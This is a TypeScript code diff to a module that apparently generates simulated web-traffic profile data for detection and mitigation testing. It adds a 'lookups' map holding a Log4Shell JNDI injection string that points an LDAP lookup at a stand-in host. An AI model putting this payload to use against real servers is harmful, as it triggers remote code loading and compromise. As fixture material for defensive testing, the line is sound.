@@ -2,6 +2,8 @@ import type { ProfileData } from '../profile-data.js';
 import { chromeOnWindows, firefoxOnWindows, safariOnMac } from '../vocabulary/browsers.js';
 import { detections } from './detections.js';
 import { mitigations } from './mitigations.js';
+import { withRequest } from './requests.js';
+import { answers, withResponse } from './responses.js';
 
 /** A blank becomes `+` in the headers. */
 const inHeader = (agent: string): string => agent.replaceAll(' ', '+');
@@ -14,11 +16,14 @@ const sites = {
   'www-05.corp.example.com': { host: 'static.example.com', config: '9486', policy: 'stat_20031' },
 };
 
-export const maps: NonNullable<ProfileData['maps']> = { sites };
+/** Looks like a template's place, which a template cannot hold: what Log4j looks up. */
+const lookups = { '*': '${jndi:ldap://203.0.113.90:1389/a}' };
+
+export const maps: NonNullable<ProfileData['maps']> = { sites, lookups, answers };
 
 export const tables: NonNullable<ProfileData['tables']> = {
-  detections,
-  mitigations,
+  detections: detections.map(withRequest).map(withResponse),
+  mitigations: mitigations.map(withRequest),
   browsers: [
     {
       weight: 9,
